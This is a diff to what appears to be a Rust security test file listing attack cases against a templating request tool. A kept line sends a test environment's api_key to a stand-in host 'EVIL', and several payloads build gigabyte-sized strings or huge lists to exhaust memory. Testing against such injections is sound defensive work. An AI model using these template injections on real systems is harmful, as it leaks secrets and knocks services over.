@@ -33,7 +33,7 @@ macro_rules! steps {
     };
 }
 
-const TRIED: [Attack<'static>; 15] = [
+const TRIED: [Attack<'static>; 13] = [
     (
         "a page of its own, told what it read",
         &[steps!("{ request: \"GET http://EVIL/?{{ profile.environments.test.api_key }}\", as: it }")],
@@ -56,15 +56,10 @@ const TRIED: [Attack<'static>; 15] = [
         "an argument of every action that grows",
         &[REHEARSED, ANSWERED, ACTED, (PACK, "no. {{ n }}", "{{ 'x' * 1000000000 }}")],
     ),
-    ("a header that grows", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, "\"{{ 'x' * 1000000000 }}\"")]),
+    ("a header that grows", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, "\"{{ mac }}{{ 'x' * 1000000000 }}\"")]),
     (
         "a signed message that grows",
-        &[REHEARSED, DELIVERED, ACCEPTED, (PACK, "\"{{ body }}\"", "\"{{ range(100000) | join('x') }}\"")],
-    ),
-    ("a loop in a header", &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, "\"{% for x in range(9) %}x{% endfor %}\"")]),
-    (
-        "a header with the key of a real environment",
-        &[REHEARSED, DELIVERED, ACCEPTED, (PACK, MAC, "\"{{ api_key }}\"")],
+        &[REHEARSED, DELIVERED, ACCEPTED, (PACK, "\"{{ body }}\"", "\"{{ body }}{{ 'x' * 1000000000 }}\"")],
     ),
     ("an expectation that grows", &[(CHECK, THEN, "values: \"{{ [['x'] * 10000] * 10000 }}\", are: { exists: true }")]),
 ];
